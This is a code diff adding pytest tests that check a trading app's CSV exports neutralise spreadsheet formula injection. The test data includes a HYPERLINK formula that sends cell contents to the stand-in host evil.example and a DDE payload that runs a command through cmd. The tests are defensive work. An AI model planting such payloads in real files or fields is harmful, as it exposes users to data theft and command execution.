@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import UTC, datetime
 from decimal import Decimal
 
 import pytest
 from fastapi.testclient import TestClient
 
 from tests.images import image_bytes
+from trade_analysis.domain import Side
 
 
 def rows(client: TestClient, path: str, **params: object) -> list[dict[str, str]]:
@@ -81,3 +83,35 @@ def test_history_csv_refuses_what_history_refuses(client: TestClient) -> None:
 def test_exports_need_the_key(anonymous: TestClient) -> None:
     assert anonymous.get("/api/v1/trades.csv").status_code == 401
     assert anonymous.get("/api/v1/history.csv").status_code == 401
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&B2,"open")', "=cmd|' /C calc'!A0", "@SUM(1)"]
+
+
+@pytest.mark.parametrize("path", ["/history.csv", "/api/v1/history.csv"])
+def test_history_csv_text_a_spreadsheet_would_run_is_neutralised(
+    client: TestClient, path: str
+) -> None:
+    for name in [*FORMULAS, "+1", "-1+2", "\tTab", "plain = text"]:
+        response = client.post(
+            "/ingest", data={"ticker": "AAPL", "price": "10", "trend": "none", "name": name}
+        )
+        assert response.status_code == 200, response.text
+    names = {row["name"] for row in rows(client, path)}
+    expected = {"'" + f for f in FORMULAS} | {"'+1", "'-1+2", "'\tTab", "plain = text"}
+    assert names == expected
+
+
+@pytest.mark.parametrize("path", ["/trades.csv", "/api/v1/trades.csv"])
+def test_trades_csv_neutralises_a_stored_bot_name_and_keeps_losses_as_numbers(
+    client: TestClient, path: str
+) -> None:
+    ledger = client.app.state.services.ledger  # type: ignore[attr-defined]
+    now = datetime.now(UTC)
+    # A ledger from before bot names were checked on every route.
+    for side, price in ((Side.BUY, "10"), (Side.SELL, "7")):
+        ledger.manual_trade(ticker="AAPL", side=side, price=Decimal(price), at=now, bot=FORMULAS[0])
+    exported = rows(client, path)
+    assert [row["bot"] for row in exported] == ["'" + FORMULAS[0]] * 2
+    assert [row["profit"] for row in exported] == ["", "-3"]
+    assert [row["price"] for row in exported] == ["10", "7"]
